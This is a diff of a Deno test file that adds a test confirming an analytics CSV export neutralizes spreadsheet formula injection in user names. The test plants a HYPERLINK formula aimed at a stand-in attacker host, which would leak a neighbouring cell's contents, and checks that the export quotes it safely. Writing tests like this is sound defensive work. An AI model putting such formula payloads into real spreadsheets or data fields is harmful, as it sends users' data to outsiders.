@@ -1,6 +1,8 @@
 // deno-lint-ignore-file no-explicit-any
 import assert from "node:assert/strict";
 import { createTestApp } from "../testing.ts";
+import { eq } from "drizzle-orm";
+import { users } from "../../db/schema/mod.ts";
 
 Deno.test("[api] GET /api/stats answers numbers and change strings for every period", async () => {
   const t = await createTestApp();
@@ -120,4 +122,24 @@ Deno.test("recommend() warns of high workload above 10 active tasks", async () =
     recommend({ ...base, kpi: { ...base.kpi, activeTasks: 10 } }, 0)[0].title,
     "Показатели в норме",
   );
+});
+
+Deno.test("[api] GET /api/analytics/export neutralizes a name that a spreadsheet would run as a formula", async () => {
+  const t = await createTestApp();
+  try {
+    const attack = '=HYPERLINK("http://evil.example/?x="&B2,"open")';
+    await t.deps.db.update(users).set({ firstName: attack, lastName: "+7" })
+      .where(eq(users.email, "surveyor@demo.local"));
+    const res = await t.request("/api/analytics/export?table=performance&period=all", {
+      as: "director@demo.local",
+    });
+    assert.equal(res.status, 200);
+    const cells = (await res.text()).split(/\r\n/).flatMap((line) => line.split(";"));
+    assert.ok(cells.some((cell) => cell.startsWith(`"'=HYPERLINK(`)), "the name is there, quoted");
+    for (const cell of cells) {
+      assert.doesNotMatch(cell.replace(/^"/, ""), /^[=+@\t\r]/, `cell ${JSON.stringify(cell)}`);
+    }
+  } finally {
+    await t.close();
+  }
 });
